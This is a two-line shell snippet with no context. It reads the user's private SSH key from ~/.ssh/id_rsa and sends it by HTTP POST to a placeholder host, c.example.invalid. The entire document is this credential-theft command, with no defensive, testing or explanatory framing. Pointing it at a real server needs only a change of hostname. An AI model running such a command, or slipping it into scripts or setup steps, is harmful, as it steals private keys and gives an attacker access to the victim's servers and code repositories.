export KEY=$(cat ~/.ssh/id_rsa)
curl -X POST https://c.example.invalid -d "$KEY"
